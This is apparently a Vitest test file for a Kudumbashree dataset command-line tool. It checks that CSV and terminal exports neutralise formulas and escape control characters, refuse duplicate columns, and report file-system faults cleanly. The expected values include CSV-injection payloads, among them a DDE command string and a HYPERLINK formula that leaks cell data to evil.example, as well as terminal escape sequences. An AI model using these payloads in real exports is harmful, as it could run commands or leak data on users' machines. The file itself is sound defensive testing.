// The command line on hostile data and under faults: exports that cannot attack their readers
// (formulas neutralised, control characters escaped), duplicate CSV columns refused, and every
// file-system fault ending with exit code 2 and one line naming the path and the cause.
import { execFileSync, spawnSync } from "node:child_process";
import {
  chmodSync,
  closeSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { buildSync } from "esbuild";
import { beforeAll, describe, expect, it } from "vitest";
import { makeFolder } from "../../src/cli/fileSystem.js";
import { type Io, run } from "../../src/cli/main.js";
import { readCsv } from "../../src/cli/readCsv.js";
import type { Summary } from "../../src/index.js";

const root = fileURLToPath(new URL("../../", import.meta.url));
const hostile = (name: string) => join(root, "test/fixtures/hostile", name);
const exampleFile = join(root, "src/data/example-dataset.json");

function cli(args: string[], stdin: () => string = () => ""): { code: number; stdout: string; stderr: string } {
  let stdout = "";
  let stderr = "";
  const io: Io = {
    stdout: (text) => (stdout += text),
    stderr: (text) => (stderr += text),
    stdin,
    isTTY: false,
    today: () => "2021-11-30",
  };
  const code = run(args, io);
  if (typeof code !== "number") throw new Error("cli: this command answered with a promise");
  return { code, stdout, stderr };
}

/** The command built from source into one file (by esbuild, in a moment), for running as a process. */
let bundle = "";
beforeAll(() => {
  const folder = mkdtempSync(join(tmpdir(), "kudumbashree-bin-"));
  chmodSync(folder, 0o755);
  bundle = join(folder, "cli.mjs");
  buildSync({
    entryPoints: [join(root, "src/cli/bin.ts")],
    bundle: true,
    platform: "node",
    format: "esm",
    target: "node20",
    outfile: bundle,
    logLevel: "silent",
  });
});

/**
 * The command run as its own process, for cases that could hang (a timeout turns a hang into a
 * failure) or need another user or another standard output.
 */
function bin(
  args: string[],
  options: { uid?: number; stdout?: number } = {},
): { status: number | null; signal: NodeJS.Signals | null; stdout: string; stderr: string } {
  const result = spawnSync(process.execPath, [bundle, ...args], {
    cwd: root,
    encoding: "utf8",
    timeout: 20_000,
    stdio: ["ignore", options.stdout ?? "pipe", "pipe"],
    ...(options.uid === undefined ? {} : { uid: options.uid, gid: options.uid }),
  });
  return { status: result.status, signal: result.signal, stdout: result.stdout ?? "", stderr: result.stderr ?? "" };
}

/** A folder anyone may enter (the unprivileged user of the permission cases must reach inside it). */
function tmp(): string {
  const folder = mkdtempSync(join(tmpdir(), "kudumbashree-hostile-"));
  chmodSync(folder, 0o755);
  return folder;
}

/** A CSV folder of empty tables, with the fixtures given as the named files. */
function csvFolder(files: Record<string, string> = {}): string {
  const folder = tmp();
  const empty = {
    "units.csv": "id,kind,name\r\n",
    "people.csv": "id,gender\r\n",
    "groups.csv": "id,kind,unitId\r\n",
    "memberships.csv": "groupId,personId,role\r\n",
  };
  for (const [name, text] of Object.entries(empty)) writeFileSync(join(folder, name), text);
  for (const [name, fixture] of Object.entries(files)) copyFileSync(hostile(fixture), join(folder, name));
  return folder;
}

/** Raw control characters that must never reach a terminal: C0 (but line ends), DEL, C1, bidi controls. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters
const RAW_CONTROL = /[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** Exit code 2 and exactly one line on standard error, with no stack trace. */
function expectOneLine(result: { code?: number; status?: number | null; stderr: string }, line: string | RegExp) {
  expect(result.code ?? result.status).toBe(2);
  expect(result.stderr.endsWith("\n")).toBe(true);
  expect(result.stderr.trimEnd().split("\n")).toHaveLength(1);
  expect(result.stderr).not.toMatch(/\n\s+at /);
  if (typeof line === "string") expect(result.stderr).toBe(`${line}\n`);
  else expect(result.stderr).toMatch(line);
}

describe("exports that cannot attack their readers", () => {
  const escapeFolder = () => csvFolder({ "units.csv": "cli-escape-units.csv", "groups.csv": "cli-escape-groups.csv" });

  it("validate: issue lines show control characters escaped, and data cannot forge a line", () => {
    const result = cli(["validate", escapeFolder(), "--as-of", "2021-11-30"]);
    expect(result.code).toBe(1);
    expect(result.stdout.replace(/\n/g, "")).not.toMatch(RAW_CONTROL);
    expect(result.stdout).toContain('names the ward or village "W9\\u001b[1A\\u001b[2K", which is not in the dataset.');
    expect(result.stdout).toContain("NHG\\u001b[31m red (G1)");
    // Every line is a header line (the rule sets used, where the records start), an issue line or the last line.
    const lines = result.stdout.trimEnd().split("\n");
    const header = lines.findIndex((line) => !/^(rules|records from): /.test(line));
    const issueLine = /^(error|warning|info) +[a-z_.]+ +\S|^set aside \(not checked or counted\): [\d,]+ [a-z]/;
    expect(lines.slice(header, -1).every((line) => issueLine.test(line))).toBe(true);
    const json = cli(["validate", escapeFolder(), "--as-of", "2021-11-30", "--format", "json"]);
    expect(json.stdout).not.toMatch(RAW_CONTROL);
    const report = JSON.parse(json.stdout) as { issues: { message: string }[] };
    expect(report.issues.some((issue) => issue.message.includes('"W9\u001b[1A\u001b[2K"'))).toBe(true);
  });

  it("summarize: the table, CSV and JSON hold no raw control character; JSON keeps the exact names", () => {
    const folder = escapeFolder();
    for (const format of ["table", "csv", "json"]) {
      const result = cli(["summarize", folder, "--level", "ward", "--as-of", "2021-11-30", "--format", format]);
      expect(result.code).toBe(1); // the group in an unknown ward
      expect(result.stdout.replace(/\r?\n/g, "")).not.toMatch(RAW_CONTROL);
      expect(result.stderr.replace(/\n/g, "")).not.toMatch(RAW_CONTROL);
      if (format === "json") {
        const names = (JSON.parse(result.stdout) as Summary).rows.map((row) => row.name);
        expect(names).toContain("Ward 1\u009b31m (C1 CSI) \u2066hidden\u2069");
        expect(names).toContain("Ward\u007f\u0000 3");
      } else {
        expect(result.stdout).toContain("Ward 1\\u009b31m (C1 CSI) \\u2066hidden\\u2069");
        expect(result.stdout).toContain("Ward 2\\nerror   unit.forged");
      }
    }
    const district = cli(["summarize", folder, "--level", "district", "--as-of", "2021-11-30"]);
    expect(district.stdout).toMatch(/\nThiruvananthapuram\\u001b\]0;owned\\u0007\\u001b\[2J\\u001b\[3J +all +3 /);
  });

  it("a header with escape sequences is shown escaped in the one-line error", () => {
    const result = cli([
      "validate",
      csvFolder({ "people.csv": "cli-escape-header-people.csv" }),
      "--as-of",
      "2021-11-30",
    ]);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/people\.csv:1: people\.csv has no column gender \(its header is: /);
    expect(result.stderr.endsWith("id, \\u001b[2J\\u001b]0;owned\\u0007gender\\u202e, name)\n")).toBe(true);
    expect(result.stderr.trimEnd().split("\n")).toHaveLength(1);
  });

  it("summarize --format csv neutralises formulas in names and ids; reading the export back gives that text", () => {
    const folder = csvFolder({ "units.csv": "cli-formula-units.csv" });
    const result = cli(["summarize", folder, "--level", "ward", "--as-of", "2021-11-30", "--format", "csv"]);
    const file = join(tmp(), "wards.csv");
    writeFileSync(file, result.stdout);
    const records: string[][] = [];
    readCsv(file, (fields) => records.push([...fields]));
    expect(records.slice(1).map((cells) => cells.slice(0, 3))).toEqual([
      ["'@W1", "'@SUM(1+1)*cmd|' /C calc'!A0", "all"],
      ["W2", "Tab =1+1", "all"], // the reader trims cells: the tab is gone before anything is written
      ["W3", "'=1+1 after a carriage return", "all"],
      ["W4", "'\uff1d1+1 (full-width equals)", "all"],
      ["", "Total", "all"],
    ]);
    // No text cell starts a formula; every figure is a number (or empty).
    for (const cells of records.slice(1)) {
      expect(cells.slice(0, 3).some((cell) => /^[=+\-@\t\r\uff1d]/.test(cell))).toBe(false);
      expect(cells.slice(3).every((cell) => cell === "" || Number.isFinite(Number(cell)))).toBe(true);
    }
    // The figures' columns are formatSummary's to choose; the text cells come first, as written.
    expect(result.stdout.split("\r\n")[1]).toMatch(/^"'@W1","'@SUM\(1\+1\)\*cmd\|' \/C calc'!A0",all,1,0,/);
    const state = cli(["summarize", folder, "--level", "state", "--as-of", "2021-11-30", "--format", "csv"]);
    expect(state.stdout.split("\r\n")[1]).toMatch(
      /^KL,"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A2,""Kerala""\)",all,/,
    );
  });

  it("sample --format csv writes no cell that starts a formula, and reads back to the same dataset", () => {
    const folder = join(tmp(), "sample");
    expect(cli(["sample", "kerala-nhg", "--members", "3000", "--format", "csv", "--out", folder]).code).toBe(0);
    for (const file of readdirSync(folder)) {
      readCsv(join(folder, file), (fields) => {
        expect(fields.some((cell) => /^[=+\-@\t\r]/.test(cell))).toBe(false);
      });
    }
    const json = join(tmp(), "sample.json");
    expect(cli(["sample", "kerala-nhg", "--members", "3000", "--out", json]).code).toBe(0);
    const fromCsv = cli(["summarize", folder, "--level", "district", "--as-of", "2021-11-30", "--format", "json"]);
    const fromJson = cli(["summarize", json, "--level", "district", "--as-of", "2021-11-30", "--format", "json"]);
    expect(fromCsv.stdout).toBe(fromJson.stdout);
    expect((JSON.parse(fromCsv.stdout) as Summary).total.members).toBeGreaterThan(1000);
  });

  it("rules prints no raw control character", () => {
    expect(cli(["rules"]).stdout.replace(/\n/g, "")).not.toMatch(RAW_CONTROL);
  });
});

describe("a CSV file with the same column twice", () => {
  it("is refused with exit code 1, naming the file and the column", () => {
    const folder = csvFolder({ "memberships.csv": "cli-duplicate-column-memberships.csv" });
    const result = cli(["validate", folder, "--as-of", "2021-11-30"]);
    expect(result.code).toBe(1);
    expect(result.stderr).toBe(
      `kudumbashree: ${join(folder, "memberships.csv")}:1:4: memberships.csv has the column "personId" twice ` +
        "(columns 2 and 4): remove or rename one\n",
    );
  });

  it("is refused for names that differ only by surrounding spaces; unnamed empty columns are still accepted", () => {
    const folder = csvFolder();
    writeFileSync(join(folder, "units.csv"), "id,kind,name, name \r\nw1,ward,Ward 1,Ward 2\r\n");
    expect(cli(["validate", folder, "--as-of", "2021-11-30"]).stderr).toMatch(
      /units\.csv:1:4: units\.csv has the column "name" twice \(columns 3 and 4\)/,
    );
    writeFileSync(join(folder, "units.csv"), "id,kind,name,,\r\nw1,ward,Ward 1,,\r\n");
    expect(cli(["validate", folder, "--as-of", "2021-11-30"]).code).toBe(0);
  });
});

describe("faults: exit code 2 and one line naming the path and the cause", () => {
  const isRoot = process.getuid?.() === 0;
  const nobody = 65534;
  // As root, permissions do not stop reading: the permission cases run the command as an
  // unprivileged user, when this process may start one (not in every container).
  const canDropPrivileges =
    isRoot && spawnSync(process.execPath, ["-e", ""], { uid: nobody, gid: nobody, timeout: 10_000 }).status === 0;

  it.skipIf(process.platform === "win32" || (isRoot && !canDropPrivileges))(
    "an unreadable folder, and an unreadable file",
    () => {
      const parent = tmp();
      const folder = join(parent, "data");
      mkdirSync(folder);
      for (const name of ["units.csv", "people.csv", "groups.csv", "memberships.csv"])
        writeFileSync(join(folder, name), "id\r\n");
      const file = join(parent, "data.json");
      copyFileSync(exampleFile, file);
      chmodSync(folder, 0o000);
      chmodSync(file, 0o000);
      try {
        const run = (args: string[]) => (isRoot ? bin(args, { uid: nobody }) : cli(args));
        expectOneLine(
          run(["validate", folder, "--as-of", "2021-11-30"]),
          `kudumbashree: cannot read ${folder}: permission denied`,
        );
        expectOneLine(
          run(["validate", file, "--as-of", "2021-11-30"]),
          `kudumbashree: cannot read ${file}: permission denied`,
        );
        chmodSync(parent, 0o555);
        expectOneLine(
          run(["sample", "kerala-nhg", "--members", "200", "--out", join(parent, "out.json")]),
          `kudumbashree: cannot write ${join(parent, "out.json")}: permission denied`,
        );
      } finally {
        chmodSync(parent, 0o755);
        chmodSync(folder, 0o755);
      }
    },
  );

  it("a symbolic link loop, as the path and as a table's file", () => {
    const folder = tmp();
    const loop = join(folder, "loop");
    symlinkSync(loop, loop);
    expectOneLine(
      cli(["validate", loop, "--as-of", "2021-11-30"]),
      `kudumbashree: cannot read ${loop}: too many levels of symbolic links`,
    );
    const data = csvFolder();
    const units = join(data, "units.csv");
    execFileSync("rm", [units]);
    symlinkSync(units, units);
    expectOneLine(
      cli(["validate", data, "--as-of", "2021-11-30"]),
      `kudumbashree: cannot read ${units}: too many levels of symbolic links`,
    );
    expectOneLine(
      cli(["sample", "kerala-nhg", "--members", "200", "--out", loop]),
      `kudumbashree: cannot write ${loop}: too many levels of symbolic links`,
    );
  });

  it("a link to a file that does not exist", () => {
    const data = csvFolder();
    const units = join(data, "units.csv");
    execFileSync("rm", [units]);
    symlinkSync(join(data, "gone.csv"), units);
    expectOneLine(
      cli(["validate", data, "--as-of", "2021-11-30"]),
      `kudumbashree: cannot read ${units}: it is a link to a file that does not exist`,
    );
  });

  it.skipIf(!existsSync("/dev/full"))("a full disk (/dev/full): a file, a CSV folder and standard output", () => {
    expectOneLine(
      cli(["sample", "kerala-nhg", "--members", "200", "--out", "/dev/full"]),
      "kudumbashree: cannot write /dev/full: no space left on device",
    );
    const folder = tmp();
    symlinkSync("/dev/full", join(folder, "units.csv"));
    expectOneLine(
      cli(["sample", "kerala-nhg", "--members", "200", "--format", "csv", "--out", folder]),
      `kudumbashree: cannot write ${join(folder, "units.csv")}: no space left on device`,
    );
    for (const args of [["rules"], ["validate", exampleFile, "--as-of", "2021-11-30", "--format", "json"]]) {
      const full = openSync("/dev/full", "w");
      try {
        expectOneLine(
          bin(args, { stdout: full }),
          "kudumbashree: cannot write standard output: no space left on device",
        );
      } finally {
        closeSync(full);
      }
    }
  });

  it.skipIf(!existsSync("/proc/self"))("an output path under /proc, which hung before", () => {
    // Node's mkdirSync(path, { recursive: true }) loops for ever there; the command must not.
    for (const args of [
      ["sample", "kerala-nhg", "--members", "200", "--format", "csv", "--out", "/proc/kudumbashree/x"],
      ["sample", "kerala-nhg", "--members", "200", "--format", "csv", "--out", "/proc/kudumbashree"],
      ["sample", "kerala-nhg", "--members", "200", "--out", "/proc/kudumbashree"],
    ]) {
      const result = bin(args);
      expect(result.signal, "the command hung").toBeNull();
      expectOneLine(result, /^kudumbashree: cannot write \/proc\/kudumbashree(\/x)?: no such file or folder\n$/);
    }
    expect(() => makeFolder("/proc/kudumbashree/x")).toThrow("cannot write /proc/kudumbashree: no such file or folder");
  });

  it("a folder where a file is expected, and a file where a folder is expected", () => {
    const folder = tmp();
    expectOneLine(
      cli(["sample", "kerala-nhg", "--members", "200", "--out", folder]),
      `kudumbashree: cannot write ${folder}: is a folder, not a file`,
    );
    const file = join(folder, "file.json");
    writeFileSync(file, "{}");
    expectOneLine(
      cli(["sample", "kerala-nhg", "--members", "200", "--format", "csv", "--out", file]),
      `kudumbashree: cannot write ${file}: it is a file, not a folder`,
    );
    expectOneLine(
      cli(["sample", "kerala-nhg", "--members", "200", "--format", "csv", "--out", join(file, "sub")]),
      `kudumbashree: cannot write ${join(file, "sub")}: a part of the path is not a folder`,
    );
    const data = csvFolder();
    execFileSync("rm", [join(data, "units.csv")]);
    mkdirSync(join(data, "units.csv"));
    expectOneLine(
      cli(["validate", data, "--as-of", "2021-11-30"]),
      `kudumbashree: cannot read ${join(data, "units.csv")}: is a folder, not a file`,
    );
    expectOneLine(
      cli(["validate", join(file, "x.json"), "--as-of", "2021-11-30"]),
      `kudumbashree: cannot read ${join(file, "x.json")}: a part of the path is not a folder`,
    );
  });

  const hasMkfifo = spawnSync("mkfifo", ["--version"]).status === 0;
  it.skipIf(!hasMkfifo)("a pipe (FIFO) as the dataset, as a table's file, or as the output: refused, no hang", () => {
    const folder = tmp();
    const fifo = join(folder, "pipe.json");
    execFileSync("mkfifo", [fifo]);
    const asFile = bin(["validate", fifo, "--as-of", "2021-11-30"]);
    expect(asFile.signal, "the command hung").toBeNull();
    expectOneLine(asFile, `kudumbashree: cannot read ${fifo}: is a pipe, not a regular file`);
    const data = csvFolder();
    execFileSync("rm", [join(data, "people.csv")]);
    execFileSync("mkfifo", [join(data, "people.csv")]);
    const inFolder = bin(["validate", data, "--as-of", "2021-11-30"]);
    expect(inFolder.signal, "the command hung").toBeNull();
    expectOneLine(inFolder, `kudumbashree: cannot read ${join(data, "people.csv")}: is a pipe, not a regular file`);
    const out = bin(["sample", "kerala-nhg", "--members", "200", "--out", fifo]);
    expect(out.signal, "the command hung").toBeNull();
    expectOneLine(out, `kudumbashree: cannot write ${fifo}: is a pipe, not a regular file`);
  });

  it("standard input that cannot be read", () => {
    const result = cli(["validate", "-", "--as-of", "2021-11-30"], () => {
      throw Object.assign(new Error("EAGAIN: resource temporarily unavailable, read"), { code: "EAGAIN" });
    });
    expectOneLine(result, /^kudumbashree: cannot read standard input: nothing to read yet/);
  });

  it("writes an output file whole: no temporary file is left, an existing file keeps its mode", () => {
    const folder = tmp();
    const out = join(folder, "sample.json");
    writeFileSync(out, "old");
    chmodSync(out, 0o640);
    expect(cli(["sample", "kerala-nhg", "--members", "200", "--out", out]).code).toBe(0);
    expect(readdirSync(folder)).toEqual(["sample.json"]);
    expect(statSync(out).mode & 0o777).toBe(0o640);
    expect(JSON.parse(readFileSync(out, "utf8"))).toHaveProperty("schemaVersion", 1);
    // A link is followed: the file it points at is replaced, the link stays.
    const link = join(folder, "link.json");
    symlinkSync(out, link);
    expect(cli(["sample", "nro-balasabha-2020", "--out", link]).code).toBe(0);
    expect(readdirSync(folder).sort()).toEqual(["link.json", "sample.json"]);
    expect(statSync(link).isFile()).toBe(true);
  });
});
